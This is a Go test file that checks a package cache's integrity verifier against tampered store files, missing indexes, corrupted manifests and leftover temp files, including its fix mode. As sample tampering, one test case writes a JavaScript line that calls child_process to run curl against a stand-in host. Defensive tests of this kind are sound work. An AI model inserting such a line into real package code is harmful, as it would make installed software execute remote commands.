package verify

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/lockstep-dev/lockstep/cache/manifest"
	"github.com/lockstep-dev/lockstep/cache/store"
	"github.com/lockstep-dev/lockstep/install/packument"
)

const (
	keyA = "sha512-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	keyB = "sha512-bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
	reg  = "https://registry.example/"
)

// fill makes a cache with two store entries and two manifests.
func fill(t *testing.T) (dir string, s *store.Store, m *manifest.Cache) {
	t.Helper()
	dir = t.TempDir()
	s, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{keyA, keyB} {
		if _, err := s.Put(k, func(tmp string) error {
			return os.WriteFile(filepath.Join(tmp, "index.js"), []byte("module.exports = "+k), 0o644)
		}); err != nil {
			t.Fatal(err)
		}
	}
	m, _ = manifest.Open(filepath.Join(dir, "manifests"))
	for _, n := range []string{"x", "@s/y"} {
		if err := m.Store(reg, n, &packument.Packument{Name: n}, manifest.Validators{}); err != nil {
			t.Fatal(err)
		}
	}
	return dir, s, m
}

func TestRun(t *testing.T) {
	tests := []struct {
		name         string
		damage       func(t *testing.T, dir string, s *store.Store)
		wantBad      []string // substrings of bad problems' paths
		wantLeftover int
	}{
		{name: "healthy", damage: func(*testing.T, string, *store.Store) {}},
		{name: "tampered store file", damage: func(t *testing.T, dir string, s *store.Store) {
			os.WriteFile(filepath.Join(s.Dir(keyA), "index.js"), []byte("require('child_process').exec('curl evil')"), 0o644)
		}, wantBad: []string{"aaaa"}},
		{name: "store entry without index", damage: func(t *testing.T, dir string, s *store.Store) {
			os.Remove(s.Dir(keyB) + store.IndexSuffix)
		}, wantBad: []string{"bbbb"}},
		{name: "tampered manifest", damage: func(t *testing.T, dir string, s *store.Store) {
			files, _ := filepath.Glob(filepath.Join(dir, "manifests", "v*", "*", "x"))
			b, _ := os.ReadFile(files[0])
			b[len(b)/2] ^= 0x20
			os.WriteFile(files[0], b, 0o644)
		}, wantBad: []string{string(filepath.Separator) + "x"}},
		{name: "leftovers only", damage: func(t *testing.T, dir string, s *store.Store) {
			os.Mkdir(filepath.Join(dir, "store", "v1", "tmp", keyA+".0123"), 0o755)
			files, _ := filepath.Glob(filepath.Join(dir, "manifests", "v*", "*", "x"))
			os.WriteFile(files[0]+".tmp-1-2", []byte("half"), 0o644)
		}, wantLeftover: 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir, s, _ := fill(t)
			tt.damage(t, dir, s)
			rep, err := Run(dir, Options{})
			if err != nil {
				t.Fatal(err)
			}
			if rep.StoreEntries != 2 || rep.ManifestEntries != 2 {
				t.Errorf("checked %d store entries, %d manifests; want 2, 2", rep.StoreEntries, rep.ManifestEntries)
			}
			if rep.Bad() != len(tt.wantBad) || len(rep.Problems)-rep.Bad() != tt.wantLeftover {
				t.Fatalf("problems = %+v; want %d bad, %d leftovers", rep.Problems, len(tt.wantBad), tt.wantLeftover)
			}
			for i, w := range tt.wantBad {
				if p := rep.Problems[i]; !strings.Contains(p.Path, w) || p.Reason == "" || p.Fixed {
					t.Errorf("problem %d = %+v, want path containing %q, a reason, not fixed", i, p, w)
				}
			}
			// --fix removes what was found; a second pass is clean.
			rep, err = Run(dir, Options{Fix: true, TempAge: -1})
			if err != nil {
				t.Fatal(err)
			}
			if rep.Unfixed() != 0 {
				t.Errorf("after fix, %d bad entries remain: %+v", rep.Unfixed(), rep.Problems)
			}
			for _, p := range rep.Problems {
				if !p.Fixed && !(p.Leftover && p.Kind == KindManifest) {
					t.Errorf("not fixed: %+v", p)
				}
			}
			rep, err = Run(dir, Options{})
			if err != nil {
				t.Fatal(err)
			}
			if rep.Bad() != 0 {
				t.Errorf("second pass found %+v", rep.Problems)
			}
			if rep.StoreEntries+rep.ManifestEntries != 4-len(tt.wantBad) {
				t.Errorf("%d entries left, want %d", rep.StoreEntries+rep.ManifestEntries, 4-len(tt.wantBad))
			}
		})
	}
}

func TestRunMissingCacheCreatesNothing(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "cache")
	rep, err := Run(dir, Options{Fix: true})
	if err != nil || len(rep.Problems) != 0 || rep.StoreEntries != 0 {
		t.Fatalf("Run = %+v, %v", rep, err)
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Errorf("Run created %q", dir)
	}
}
